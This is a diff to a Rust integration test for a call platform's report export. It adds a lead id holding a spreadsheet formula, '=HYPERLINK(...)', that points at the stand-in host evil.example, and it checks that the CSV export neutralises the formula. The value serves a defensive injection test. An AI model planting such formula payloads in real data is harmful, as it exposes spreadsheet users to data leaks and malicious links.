@@ -1,8 +1,9 @@
 //! Reports and the dashboard (issue 15): calls made through the real paths (Twilio webhooks
 //! and runtime events, outbound calls and Twilio's callbacks, a call Twilio refused), their
 //! ends reported twice in both orders, an analysis re-run, in a zone with a DST change inside
-//! the period; every figure of every report equals a recount of the calls the API lists. Also
-//! the dashboard's shared cache, and bad input.
+//! the period; every figure of every report equals a recount of the calls the API lists
+//! (campaign calls: `campaigns::a_tick_delivered_three_times_dials_each_lead_once`). Also the
+//! dashboard's shared cache, and bad input.
 
 use super::ingest::{CALLER, NUMBER, Rt, envelope, post, world};
 use aws_sdk_dynamodb::types::AttributeValue;
@@ -75,7 +76,7 @@ async fn began_at(stack: &Stack, id: &str, at: &str) {
 /// Runs the post-call function on the summary queue's batches, as Lambda delivers them,
 /// until every ended call of `est` is analysed and counted as it is now (jobs of an end
 /// Twilio reported wait 20 s on the queue).
-async fn drain(stack: &Stack, est: &str) {
+pub(crate) async fn drain(stack: &Stack, est: &str) {
     let analyzer =
         callplane::analysis::Analyzer::new(&callplane::config::AnalyzerKind::Builtin, &stack.sdk);
     let est = EstablishmentId::parse(est).unwrap();
@@ -113,7 +114,7 @@ async fn drain(stack: &Stack, est: &str) {
 }
 
 /// Every call of the establishment, as `GET /calls` lists them.
-async fn listed(stack: &Stack, token: &str, est: &str) -> Vec<Value> {
+pub(crate) async fn listed(stack: &Stack, token: &str, est: &str) -> Vec<Value> {
     let mut all = Vec::new();
     let mut path = format!("/calls?establishment_id={est}&limit=100");
     loop {
@@ -214,7 +215,7 @@ fn day_of(call: &Value, zone: Tz) -> String {
 }
 
 /// The figures of the listed calls `keep` selects, as JSON.
-fn figures_of(calls: &[Value], keep: impl Fn(&Value) -> bool) -> Value {
+pub(crate) fn figures_of(calls: &[Value], keep: impl Fn(&Value) -> bool) -> Value {
     let mut sum = Counters::default();
     for call in calls.iter().filter(|c| keep(c)) {
         sum.merge(&recount(call), 1);
@@ -363,7 +364,8 @@ async fn every_report_figure_equals_a_recount_of_the_calls_the_api_lists() {
     // outbound call F Twilio refused
     let place = |key: &'static str| {
         let body = json!({ "establishment_id": est, "agent_id": rt.agent, "to_e164": CALLER,
-                           "answering_machine_detection": true });
+                           "answering_machine_detection": true,
+                           "lead_id": format!("=HYPERLINK(\"http://evil.example/{key}\")") });
         let token = rt.admin.clone();
         let stack = &stack;
         async move {
@@ -704,6 +706,55 @@ async fn every_report_figure_equals_a_recount_of_the_calls_the_api_lists() {
             .any(|(id, r)| *id == c && r == &vec!["handoff".to_owned()])
     );
     assert_eq!(listed_reasons[0].0, c, "C ended last");
+
+    // WHEN the calls are exported THEN the first request starts a job (202), and the same
+    // request answers the same export, ready once the post-call worker made it
+    let export_path = format!("/reports/calls/export?{q}");
+    let started = stack.get(&export_path, &rt.admin).await;
+    let started = started.expect(202).clone();
+    assert_eq!(started["status"], "pending");
+    let ready = loop {
+        let batch = summary_batch(&stack).await;
+        let event: post_call::SqsEvent = serde_json::from_value(batch).unwrap();
+        post_call::handle(
+            &stack.app,
+            &callplane::analysis::Analyzer::new(
+                &callplane::config::AnalyzerKind::Builtin,
+                &stack.sdk,
+            ),
+            event,
+        )
+        .await;
+        let reply = stack.get(&export_path, &rt.admin).await;
+        if reply.status == 200 {
+            break reply.body.clone();
+        }
+        assert_eq!(reply.expect(202)["export_id"], started["export_id"]);
+    };
+    assert_eq!(ready["status"], "ready");
+    assert_eq!(ready["rows"], 6);
+    // AND the download is a CSV of every call, with the formula-looking lead ids neutralised
+    // and phone numbers left as they are
+    let (code, bytes) = callplane_tests::http_get(ready["download_url"].as_str().unwrap()).await;
+    assert_eq!(code, 200);
+    let mut reader = csv::Reader::from_reader(bytes.as_slice());
+    assert_eq!(
+        reader.headers().unwrap().iter().collect::<Vec<_>>(),
+        callplane::service::reports::EXPORT_COLUMNS.to_vec()
+    );
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let mut exported: Vec<&str> = rows.iter().map(|r| &r[0]).collect();
+    let mut ids: Vec<&str> = calls
+        .iter()
+        .map(|c| c["call_id"].as_str().unwrap())
+        .collect();
+    exported.sort();
+    ids.sort();
+    assert_eq!(exported, ids);
+    let d_row = rows.iter().find(|r| r[0] == *d_id).unwrap();
+    assert_eq!(&d_row[16], "'=HYPERLINK(\"http://evil.example/rD\")");
+    assert_eq!(&d_row[6], CALLER);
+    assert_eq!(&d_row[11], "12");
 }
 
 /// An establishment with a routed agent and a runtime whose call `sid` is ended and counted.
